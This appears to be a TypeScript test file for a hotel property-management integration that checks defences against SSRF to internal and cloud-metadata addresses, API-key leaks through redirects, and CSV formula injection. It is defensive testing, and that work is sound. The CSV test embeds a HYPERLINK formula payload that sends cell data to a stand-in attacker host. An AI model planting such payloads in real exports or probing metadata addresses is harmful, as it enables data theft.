import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { sql } from 'drizzle-orm';
import { afterEach, describe, expect, it } from 'vitest';
import { startSignedIn } from '../../../../test/api-client.ts';
import type { TestEnv } from '../../../../test/harness.ts';
import { drain, rows, startPmsTestEnv, syncNow, type PmsTestEnv } from './pms-harness.ts';

// Found by the attack review of 2026-12-05: the PMS address, the key that travels with it, and the change file.

let env: TestEnv | undefined;
let t: PmsTestEnv | undefined;
const servers: http.Server[] = [];
afterEach(async () => {
  await env?.close();
  env = undefined;
  await t?.close();
  t = undefined;
  for (const s of servers.splice(0)) await new Promise((r) => s.close(r));
});

async function listen(handler: http.RequestListener): Promise<number> {
  const server = http.createServer(handler);
  servers.push(server);
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return (server.address() as AddressInfo).port;
}

const production = { PMS_ALLOW_HTTP: 'false', PMS_ALLOW_PRIVATE_NETWORK: 'false' };
const connection = { name: '德安', apiKey: 'k'.repeat(16), propertyMap: {} };

describe('the PMS address (production settings)', () => {
  it('is refused when it names Innkeeper’s own network: loopback, private ranges, the cloud metadata address', async () => {
    const started = await startSignedIn(production);
    env = started.env;
    for (const baseUrl of ['https://169.254.169.254/latest/meta-data', 'https://127.0.0.1:5432', 'https://localhost:3910/dean/v1', 'https://10.0.0.8/dean/v1', 'https://[::1]/dean/v1']) {
      const created = await started.admin.post('/api/pms/connections', { ...connection, baseUrl });
      expect([baseUrl, created.status, created.body.error?.code]).toEqual([baseUrl, 400, 'pms.internal_address']);
    }
    const fine = await started.admin.post('/api/pms/connections', { ...connection, baseUrl: 'https://pms.hotel.example/dean/v1' });
    expect(fine.status).toBe(201);
    const moved = await started.admin.patch(`/api/pms/connections/${fine.body.id}`, { baseUrl: 'https://192.168.0.10/dean/v1' });
    expect([moved.status, moved.body.error?.code]).toEqual([400, 'pms.internal_address']);
  });
});

describe('one connection per hotel group', () => {
  it('[concurrency] two creates at once make one connection; the other is told one exists (PostgreSQL decides)', async () => {
    const started = await startSignedIn();
    env = started.env;
    const create = () => started.admin.post('/api/pms/connections', { ...connection, baseUrl: 'https://pms.hotel.example/dean/v1' });
    const answers = await Promise.all([create(), create()]);
    expect(answers.map((a) => (a.status === 201 ? 201 : `${a.status} ${a.body.error?.code}`)).sort()).toEqual([201, '409 pms.connection_exists']);
    expect((await started.admin.get('/api/pms/connections')).body.data).toHaveLength(1);
  });
});

describe('a PMS that answers with a redirect', () => {
  it('is not followed: the hotel’s key never reaches the other host, and nothing that host says comes back', async () => {
    const started = await startSignedIn();
    env = started.env;
    let leakedKey: string | undefined;
    const other = await listen((req, res) => {
      leakedKey = req.headers['x-api-key'] as string | undefined;
      res.writeHead(403, { 'content-type': 'application/json' }).end(JSON.stringify({ error: { code: 'forbidden', message: 'INTERNAL-SECRET-TEXT' } }));
    });
    const redirector = await listen((_req, res) => res.writeHead(302, { location: `http://localhost:${other}/admin` }).end());
    const created = await started.admin.post('/api/pms/connections', { ...connection, apiKey: 'the-hotels-real-key', baseUrl: `http://127.0.0.1:${redirector}` });
    expect(created.status).toBe(201);
    const tested = await started.admin.post(`/api/pms/connections/${created.body.id}/test`, {});
    expect(tested.body).toMatchObject({ ok: false, code: 'network' });
    expect(leakedKey).toBeUndefined();
    expect(JSON.stringify(tested.body)).not.toContain('INTERNAL-SECRET-TEXT');
  });
});

describe('the front desk’s change file', () => {
  it('neutralises a value a spreadsheet would run as a formula, as the member export does', async () => {
    t = await startPmsTestEnv({ sim: { writable: [] }, clockAt: new Date('2026-12-02T02:00:00Z') });
    await syncNow(t);
    const [row] = await rows<{ member_id: string }>(t, sql`select member_id from pms_profiles where member_id is not null and not deleted limit 1`);
    const payload = '=HYPERLINK("https://evil.example/?d="&B2,"開啟")';
    const edited = await t.admin.patch(`/api/members/${row!.member_id}`, { lastName: payload });
    expect(edited.status, JSON.stringify(edited.body)).toBe(200);
    await drain(t);
    const file = await t.env.app.inject({ method: 'GET', url: `/api/pms/connections/${t.connectionId}/changes.csv`, headers: { cookie: t.admin.cookie ?? '' } });
    expect(file.statusCode).toBe(200);
    expect(file.body).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&B2,""開啟"")"`);
    const cells = file.body.split(/[\r\n,]/).map((c) => c.replace(/^"/, ''));
    expect(cells.filter((c) => /^[=+\-@]/.test(c))).toEqual([]);
  }, 60_000);
});
